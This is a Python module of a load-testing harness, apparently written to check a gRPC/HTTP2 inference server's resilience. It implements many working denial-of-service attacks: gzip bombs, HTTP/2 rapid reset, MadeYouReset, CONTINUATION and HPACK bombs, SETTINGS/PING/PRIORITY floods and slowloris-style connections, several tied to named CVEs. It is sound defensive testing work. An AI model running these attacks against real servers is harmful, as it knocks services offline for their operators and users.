"""The attacks. Each says over and over what its docstring tells, until it is stopped.

Run as a process, at the lowest priority: an attack by its name, for so many seconds. Prints one line once it
is under way, and one at the end with what the server answered.

Attacks are paced (`Pace`): the numbers are what one patient attacker sends from one machine, and leave the
core that the honest clients share with it mostly idle, so that what is measured is the server.
"""

from __future__ import annotations

import asyncio
import json
import os
import ssl
import struct
import sys
import time
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Callable, Coroutine, Iterable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from functools import cache
from typing import Any

import uvloop

from cellstream.v1 import prediction_pb2 as pb
from trials.attack import frames
from trials.attack.frames import RawConnection, connect

PREDICT = "/cellstream.v1.PredictionService/Predict"
GENERATE = "/cellstream.v1.PredictionService/Generate"
WATCH = "/grpc.health.v1.Health/Watch"
CHECK = "/grpc.health.v1.Health/Check"
TICK_SECONDS = 0.01
"""How often a paced attack says something."""
RETRY_SECONDS = 0.05
"""Pause before an attack connects again, once the server has ended its connection."""
STREAM_MAX = 1 << 30
"""Streams' numbers are not reached: an attack ends long before."""


@dataclass(slots=True)
class Attack:
    """An attack under way.

    Attributes:
        port: The server's.
        metrics_port: Of its metrics.
        heard: What the server answered.
        sent: What was sent, in units of the attack.
        connections: Those that are open, and some that the server has ended.
        ending: Those that we have ended.
    """

    port: int
    metrics_port: int
    heard: Counter[str] = field(default_factory=Counter)
    sent: int = 0
    connections: list[RawConnection] = field(default_factory=list)
    ending: list[RawConnection] = field(default_factory=list)

    async def connect(self, *, port: int | None = None, **how: Any) -> RawConnection:
        """Open a connection to the server, or to another port, again and again until there is one."""
        while True:
            try:
                connection = await connect(port or self.port, self.heard, **how)
            except OSError as error:
                self.heard[f"not connected: {type(error).__name__}"] += 1
                await asyncio.sleep(RETRY_SECONDS)
            else:
                self.connections.append(connection)
                return connection

    def drop(self, connection: RawConnection) -> None:
        """End a connection."""
        self.connections.remove(connection)
        if not connection.closed.is_set():
            connection.transport.abort()
            self.ending.append(connection)

    def keep(self, count: int) -> None:
        """End the oldest connections beyond so many."""
        while len(self.connections) > count:
            self.drop(self.connections[0])

    async def end(self) -> None:
        """End all connections."""
        self.keep(0)
        for connection in self.ending:
            await connection.closed.wait()


Run = Callable[[Attack], Coroutine[Any, Any, None]]
ATTACKS: dict[str, Run] = {}


def attack(run: Run) -> Run:
    """Enter an attack under the name of its function."""
    ATTACKS[run.__name__] = run
    return run


class Pace:
    """Lets so many units a second go.

    Args:
        per_second: How many.
    """

    def __init__(self, per_second: float) -> None:
        self._per_second = per_second
        self._last = time.monotonic()
        self._owed = 0.0

    async def next(self) -> int:
        """Wait a tick, and say how many units may go; at least one, at most a tenth of a second's."""
        while True:
            await asyncio.sleep(TICK_SECONDS)
            now = time.monotonic()
            self._owed += (now - self._last) * self._per_second
            self._owed = min(self._owed, max(1.0, self._per_second / 10))
            self._last = now
            if self._owed >= 1:
                count = int(self._owed)
                self._owed -= count
                return count


async def _flood(
    attack: Attack,
    make: Callable[[int], bytes],
    per_second: float,
    *,
    opening: bytes = b"",
    connections: int = 1,
    **how: Any,
) -> None:
    """Say `make(n)` for n = 0, 1, … over each of some connections; connect again where one is ended.

    An acknowledgement between the frames of a header block would be an error, and end the attack.
    """

    async def one() -> None:
        while True:
            connection = await attack.connect(**how)
            connection.say(opening)
            pace, number = Pace(per_second / connections), 0
            while await connection.drain():
                for _ in range(await pace.next()):
                    connection.say(make(number))
                    number += 1
                    attack.sent += 1
            await asyncio.sleep(RETRY_SECONDS)

    await _together(one() for _ in range(connections))


async def _together(ones: Iterable[Coroutine[Any, Any, None]]) -> None:
    async with asyncio.TaskGroup() as group:
        for one in ones:
            group.create_task(one)


class Body:
    """Sends a stream's bytes as fast as the server gives room for them.

    Args:
        connection: Whose.
        stream: Which.
    """

    def __init__(self, connection: RawConnection, stream: int) -> None:
        self._connection = connection
        self._stream = stream

    async def send(self, body: bytes) -> bool:
        """Send it; False if the stream or the connection ended first."""
        at, connection = 0, self._connection
        while at < len(body):
            room = connection.room(self._stream)
            if room > 0:
                piece = body[at : at + room]
                at += len(piece)
                for number in (0, self._stream):
                    connection.windows[number] -= len(piece)
                connection.say(frames.data(self._stream, piece))
                await asyncio.sleep(0)
            elif not await connection.next_told():
                return False
            if self._stream in connection.streams_ended or not await connection.drain():
                return False
        return True


def _stream(number: int) -> int:
    return 2 * number + 1


@cache
def _block(path: str, *more: tuple[bytes, bytes]) -> bytes:
    return frames.block(path, *more)


def _call(stream: int, path: str, message: bytes, *, end: bool = False, more: Any = ()) -> bytes:
    return frames.headers(stream, _block(path, *more)) + frames.data(
        stream, frames.grpc_message(message), end=end
    )


# ------------------------------------------------------------------------------------ what is unpacked


def _gzip_of_zeros(megabytes: int) -> bytes:
    """A gzip member of so many MB of zeros: one packed megabyte, repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    megabyte = bytes(1 << 20)
    once = packer.compress(megabyte) + packer.flush(zlib.Z_FULL_FLUSH)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    last = packer.flush()
    check = 0
    for _ in range(megabytes):
        check = zlib.crc32(megabyte, check)
    trailer = struct.pack("<II", check, (megabytes << 20) & 0xFFFFFFFF)
    return b"\x1f\x8b\x08" + bytes(6) + b"\xff" + once * megabytes + last + trailer


async def _bombs(attack: Attack, megabytes: int, streams: int) -> None:
    """Over and over: a connection, so many calls at once, a bomb in each, half a second's pause."""
    body = frames.grpc_message(_gzip_of_zeros(megabytes), packed=True)
    block = _block(PREDICT, (b"grpc-encoding", b"gzip"))

    async def throw(connection: RawConnection, stream: int) -> None:
        connection.say(frames.headers(stream, block))
        await Body(connection, stream).send(body)
        attack.sent += 1

    while True:
        connection = await attack.connect()
        await _together(throw(connection, _stream(number)) for number in range(streams))
        await asyncio.sleep(0.5)
        attack.drop(connection)


@attack
async def gzip_bomb(attack: Attack) -> None:
    """A message of 1.2 MB that unpacks to 1.2 GB, twice a second."""
    await _bombs(attack, 1200, 1)


@attack
async def gzip_bombs(attack: Attack) -> None:
    """32 messages of 65 kB that unpack to 65 MB each, twice a second."""
    await _bombs(attack, 65, 32)


# --------------------------------------------------------------------------------- streams that cost little


@attack
async def headers_only(attack: Attack) -> None:
    """Calls of Predict without a message, 2,000 a second over 4 connections, never ended."""
    await _flood(attack, lambda n: frames.headers(_stream(n), _block(PREDICT)), 2000, connections=4)


@attack
async def watches(attack: Attack) -> None:
    """Calls of health Watch, 2,000 a second over 4 connections, never ended."""
    await _flood(attack, lambda n: _call(_stream(n), WATCH, b"", end=True), 2000, connections=4)


@attack
async def rapid_reset(attack: Attack) -> None:
    """A call and its RST_STREAM, 5,000 a second over 4 connections (CVE-2023-44487)."""
    await _flood(
        attack,
        lambda n: frames.headers(_stream(n), _block(PREDICT)) + frames.reset(_stream(n)),
        5000,
        connections=4,
    )


@attack
async def made_you_reset(attack: Attack) -> None:
    """Calls, each with a frame that makes the server reset it; as fast as those above (CVE-2025-8671)."""

    def make(number: int) -> bytes:
        stream = _stream(number)
        provoke = (
            frames.window_update(stream, 0),
            frames.window_update(stream, frames.WINDOW_MAX),
            frames.frame(frames.PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\0"),
        )[number % 3]
        return _call(stream, PREDICT, b"") + provoke

    await _flood(attack, make, 5000, connections=4)


# --------------------------------------------------------------------------------------------- headers


@attack
async def continuations(attack: Attack) -> None:
    """HEADERS and then CONTINUATION without end, 16 KiB each, 500 a second (CVE-2024-27316)."""
    opening = frames.frame(frames.HEADERS, 0, 1, _block(PREDICT))
    piece = frames.literal(b"x", b"y" * (frames.FRAME_BYTES_MAX - 16))[: frames.FRAME_BYTES_MAX]
    await _flood(
        attack,
        lambda n: frames.frame(frames.CONTINUATION, 0, 1, piece),
        500,
        opening=opening,
        acknowledges=False,
    )


@attack
async def empty_continuations(attack: Attack) -> None:
    """HEADERS and then empty CONTINUATION without end, 20,000 a second."""
    opening = frames.frame(frames.HEADERS, 0, 1, _block(PREDICT))
    await _flood(
        attack, lambda n: frames.frame(frames.CONTINUATION, 0, 1), 20_000, opening=opening, acknowledges=False
    )


@attack
async def hpack_bomb(attack: Attack) -> None:
    """A field of 4 KB in the dynamic table, named 16,000 times in a block: 64 MB a call (CVE-2016-6581)."""
    insert = frames.literal(b"x-bomb", b"z" * 4000, first=0x40)
    first = frames.headers(1, _block(PREDICT) + insert)

    def make(number: int) -> bytes:
        return frames.headers(_stream(number + 1), _block(PREDICT) + b"\xbe" * 16_000)

    await _flood(attack, make, 100, opening=first)


@attack
async def large_headers(attack: Attack) -> None:
    """Header lists of 25 kB, 200 a second: refused, and the connection goes on."""
    block = _block(PREDICT, *((b"x-%d" % n, b"v" * 1000) for n in range(25)))
    await _flood(attack, lambda n: frames.headers(_stream(n), block), 200)


# -------------------------------------------------------------------------------------- frames without end


@attack
async def settings_flood(attack: Attack) -> None:
    """Empty SETTINGS, 20,000 a second, whose acknowledgements are not read (CVE-2019-9515)."""
    await _flood(attack, lambda n: frames.settings(), 20_000, reads=False)


@attack
async def window_settings(attack: Attack) -> None:
    """100 open calls, and SETTINGS that change the window of each, 20,000 a second."""
    opening = b"".join(_call(_stream(n), PREDICT, b"") for n in range(100))
    await _flood(attack, lambda n: frames.settings(window=n % 2 * 65_535), 20_000, opening=opening)


@attack
async def pings(attack: Attack) -> None:
    """PINGs, 20,000 a second, whose answers are not read (CVE-2019-9512)."""
    await _flood(attack, lambda n: frames.frame(frames.PING, payload=bytes(8)), 20_000, reads=False)


@attack
async def empty_data(attack: Attack) -> None:
    """Empty DATA, 20,000 a second (CVE-2019-9518)."""
    opening = _call(1, PREDICT, b"")
    await _flood(attack, lambda n: frames.frame(frames.DATA, 0, 1), 20_000, opening=opening)


@attack
async def padded_data(attack: Attack) -> None:
    """DATA of a byte and 255 of padding, 5,000 a second."""
    opening = _call(1, PREDICT, b"") + frames.data(1, b"\0" + (4_000_000).to_bytes(4, "big"))
    padded = frames.frame(frames.DATA, 0x8, 1, b"\xff" + b"\0" + bytes(255))
    await _flood(attack, lambda n: padded, 5000, opening=opening)


@attack
async def window_updates(attack: Attack) -> None:
    """WINDOW_UPDATE of a byte, for the connection and for a stream, 20,000 a second."""
    opening = _call(1, PREDICT, b"")
    await _flood(attack, lambda n: frames.window_update(n % 2, 1), 20_000, opening=opening)


@attack
async def priorities(attack: Attack) -> None:
    """PRIORITY of ever new streams, 20,000 a second (CVE-2019-9513)."""
    await _flood(
        attack,
        lambda n: frames.frame(frames.PRIORITY, 0, _stream(n % STREAM_MAX), (0).to_bytes(4, "big") + b"\x10"),
        20_000,
    )


# ------------------------------------------------------------------------------------ what is never read


def _generation(tokens: int) -> bytes:
    return pb.GenerateRequest(text="To be", max_tokens=tokens, temperature=1.0).SerializeToString()


@attack
async def closed_windows(attack: Attack) -> None:
    """32 connections of 8 generations with an initial window of 0: nothing can be sent (CVE-2019-9511)."""

    async def one() -> None:
        opening = frames.PREFACE + frames.settings(window=0)
        connection = await attack.connect(opening=opening)
        for number in range(8):
            connection.say(_call(_stream(number), GENERATE, _generation(60_000), end=True))
            attack.sent += 1
        await connection.closed.wait()

    await _together(one() for _ in range(32))


@attack
async def unread_generations(attack: Attack) -> None:
    """300 generations of 60,000 tokens over 300 connections whose sockets are never read."""
    opening = frames.PREFACE + frames.settings(window=frames.WINDOW_MAX)

    async def one() -> None:
        connection = await attack.connect(opening=opening, reads=False)
        connection.say(frames.window_update(0, frames.WINDOW_MAX - 65_535))
        connection.say(_call(1, GENERATE, _generation(60_000), end=True))
        attack.sent += 1
        await connection.closed.wait()

    await _together(one() for _ in range(300))


# -------------------------------------------------------------------------------------- much honest work


@attack
async def generations(attack: Attack) -> None:
    """64 generations of 60,000 tokens, read as they come; begun anew when they end."""

    async def one() -> None:
        connection = await attack.connect(
            opening=frames.PREFACE
            + frames.settings(window=frames.WINDOW_MAX)
            + frames.window_update(0, frames.WINDOW_MAX - 65_535)
        )
        for number in range(STREAM_MAX):
            connection.say(_call(_stream(number), GENERATE, _generation(60_000), end=True))
            attack.sent += 1
            while _stream(number) not in connection.streams_ended:
                if not await connection.next_told():
                    return

    await _together(one() for _ in range(64))


async def _bodies(
    attack: Attack, bodies: Callable[[], list[bytes]], pause: float, connections: int = 1
) -> None:
    """Over and over: a connection, a call of Predict, these messages, a pause."""

    async def one() -> None:
        while True:
            connection = await attack.connect()
            connection.say(frames.headers(1, _block(PREDICT)))
            body = Body(connection, 1)
            for message in bodies():
                if not await body.send(frames.grpc_message(message)):
                    break
                attack.sent += 1
            await asyncio.sleep(pause)
            attack.drop(connection)

    await _together(one() for _ in range(connections))


def _opening() -> bytes:
    return pb.PredictRequest(opens=[pb.Open(handle=0, answer=pb.Answer(top_k=1))]).SerializeToString()


@attack
async def queued_tokens(attack: Attack) -> None:
    """One session with 65,536 tokens queued, as four feeds; again once they are applied."""
    feeds = [pb.Feed(id=n, text="x" * 16_384) for n in range(4)]
    request = pb.PredictRequest(opens=[pb.Open(handle=0, answer=pb.Answer(top_k=1))], feeds=feeds)
    while True:
        connection = await attack.connect()
        connection.say(frames.headers(1, _block(PREDICT)))
        await Body(connection, 1).send(frames.grpc_message(request.SerializeToString()))
        attack.sent += 1
        connection.say(frames.data(1, b"", end=True))
        while 1 not in connection.streams_ended and await connection.next_told():
            pass
        attack.drop(connection)


@attack
async def tiny_feeds(attack: Attack) -> None:
    """Messages of 4 MB made of feeds of 2 bytes, one after the other."""
    message = b"\x1a\x00" * (2_000_000)  # field 3, feeds, of length 0
    await _bodies(attack, lambda: [message], 0.2)


@attack
async def long_feeds(attack: Attack) -> None:
    """Feeds of 4 MB of ids behind one that runs, from 4 connections."""
    running = pb.PredictRequest(feeds=[pb.Feed(text="x" * 16_384)]).SerializeToString()
    long = pb.PredictRequest(feeds=[pb.Feed(tokens=pb.Tokens(ids=[65] * 4_000_000))]).SerializeToString()
    await _bodies(attack, lambda: [_opening(), running, running, long], 0.5, connections=4)


@attack
async def half_messages(attack: Attack) -> None:
    """4 MB messages of which the last byte never comes, over 100 connections."""
    body = frames.grpc_message(bytes(4_000_000))[:-1]

    async def one() -> None:
        while True:
            connection = await attack.connect()
            connection.say(frames.headers(1, _block(PREDICT)))
            if await Body(connection, 1).send(body):
                attack.sent += 1
                await connection.closed.wait()
            await asyncio.sleep(1)

    await _together(one() for _ in range(100))


@attack
async def oversized(attack: Attack) -> None:
    """Messages that say that they have 1 GB, 500 a second."""
    prefix = b"\0" + (1 << 30).to_bytes(4, "big") + bytes(100)
    await _flood(
        attack,
        lambda n: frames.headers(_stream(n), _block(PREDICT)) + frames.data(_stream(n), prefix),
        500,
    )


# ----------------------------------------------------------------------------------------- connections


@attack
async def slow_preface(attack: Attack) -> None:
    """1,000 connections that say a byte of the preface a second."""

    async def one() -> None:
        while True:
            connection = await attack.connect(opening=b"", acknowledges=False)
            for byte in frames.PREFACE[:-1]:
                connection.say(bytes([byte]))
                attack.sent += 1
                with suppress(TimeoutError):
                    await asyncio.wait_for(connection.closed.wait(), 1)
                if connection.closed.is_set():
                    break
            attack.drop(connection)

    await _together(one() for _ in range(1000))


@attack
async def slow_bytes(attack: Attack) -> None:
    """200 connections that say a call byte by byte, 20 bytes a second each."""
    said = _call(1, PREDICT, _opening(), end=True)

    async def one() -> None:
        connection = await attack.connect(acknowledges=False)  # which would come between two bytes of a frame
        for byte in said:
            connection.say(bytes([byte]))
            attack.sent += 1
            await asyncio.sleep(0.05)
        await connection.closed.wait()

    await _together(one() for _ in range(200))


@attack
async def connections(attack: Attack) -> None:
    """New connections, 500 a second, of which 3,000 stay open."""
    pace = Pace(500)
    while True:
        for _ in range(await pace.next()):
            await attack.connect()
            attack.sent += 1
        attack.keep(3000)


@attack
async def tls_hellos(attack: Attack) -> None:
    """TLS handshakes that end after the client's first message, 200 a second, 1,000 of them left open."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing).do_handshake()
    hello, pace = outgoing.read(), Pace(200)
    while True:
        for _ in range(await pace.next()):
            await attack.connect(opening=hello, reads=False)
            attack.sent += 1
        attack.keep(1000)


@attack
async def slow_scrapes(attack: Attack) -> None:
    """200 connections to the metrics port that say a byte of a request a second."""
    request = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"y" * 10_000

    async def one() -> None:
        while True:
            connection = await attack.connect(port=attack.metrics_port, opening=b"", reads=False)
            for byte in request:
                connection.say(bytes([byte]))
                attack.sent += 1
                with suppress(TimeoutError):
                    await asyncio.wait_for(connection.closed.wait(), 1)
                if connection.closed.is_set():
                    break

    await _together(one() for _ in range(200))


# --------------------------------------------------------------------------------------------- a process

WARM_SECONDS = 0.5
"""From an attack's beginning to the line that says that it is under way."""


@asynccontextmanager
async def under_way(name: str, port: int, metrics_port: int) -> AsyncIterator[Attack]:
    """Attack until the block is left.

    Raises:
        Exception: What stopped the attack before.
    """
    made = Attack(port, metrics_port)
    task = asyncio.create_task(ATTACKS[name](made))
    try:
        yield made
        if task.done():
            task.result()  # an attack does not end by itself: this raises why it did
    finally:
        task.cancel()
        with suppress(asyncio.CancelledError):
            await task
        await made.end()


async def _main(name: str, port: int, metrics_port: int, seconds: float) -> None:
    async with under_way(name, port, metrics_port) as made:
        await asyncio.sleep(WARM_SECONDS)
        print(json.dumps({"attack": name}), flush=True)
        await asyncio.sleep(seconds)
    print(json.dumps({"sent": made.sent, "heard": dict(made.heard)}), flush=True)


if __name__ == "__main__":
    os.nice(19)
    uvloop.run(_main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])))
